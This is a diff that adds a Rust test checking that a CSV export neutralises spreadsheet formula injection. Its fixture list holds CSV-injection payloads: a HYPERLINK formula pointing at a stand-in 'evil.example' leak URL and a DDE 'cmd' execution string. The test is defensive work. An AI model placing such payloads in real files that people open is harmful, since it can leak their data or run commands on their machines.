@@ -388,3 +388,52 @@ async fn the_export_is_the_same_bytes_every_time(t: &TestDb) {
     let _ = std::fs::remove_dir_all(base);
 }
 on_both!(the_export_is_the_same_bytes_every_time);
+
+/// A Registry entry whose remote URL is a spreadsheet formula (the reproduction: a live
+/// `=HYPERLINK(…)` in the export) lands in the CSV as text.
+async fn a_formula_in_a_registry_entry_stays_text_in_the_export(t: &TestDb) {
+    let registry = Registry::start().await;
+    let hostile = [
+        "=HYPERLINK(\"https://evil.example/?leak\",\"open me\")",
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+    ];
+    let entries = hostile
+        .iter()
+        .enumerate()
+        .map(|(i, url)| streamable(&format!("io.fixture/formula{i}"), url))
+        .collect();
+    registry.set_entries(entries, 3);
+    let cfg = config(&registry.url, MapLookup::default());
+    assert_eq!(run(&t.db, &cfg).await.unwrap().status, "completed");
+    let out = std::env::temp_dir().join(format!(
+        "lowdown-export-formula-{}-{:?}",
+        std::process::id(),
+        t.kind
+    ));
+    let summary = export(t, &out).await;
+    let file = summary["files"][0].as_str().unwrap().to_owned();
+    let csv = std::fs::read_to_string(out.join(file)).unwrap();
+    for url in hostile {
+        let cell = if url.contains([',', '"']) {
+            format!("\"'{}\"", url.replace('"', "\"\""))
+        } else {
+            format!("'{url}")
+        };
+        assert!(
+            csv.contains(&format!(",{cell},")),
+            "{url} is not text:\n{csv}"
+        );
+    }
+    for line in csv.lines() {
+        for f in line.split(',') {
+            assert!(
+                !f.starts_with(['=', '@', '+', '-']) && !f.starts_with("\"="),
+                "a cell a spreadsheet would run: {f} in {line}"
+            );
+        }
+    }
+    let _ = std::fs::remove_dir_all(out);
+}
+on_both!(a_formula_in_a_registry_entry_stays_text_in_the_export);
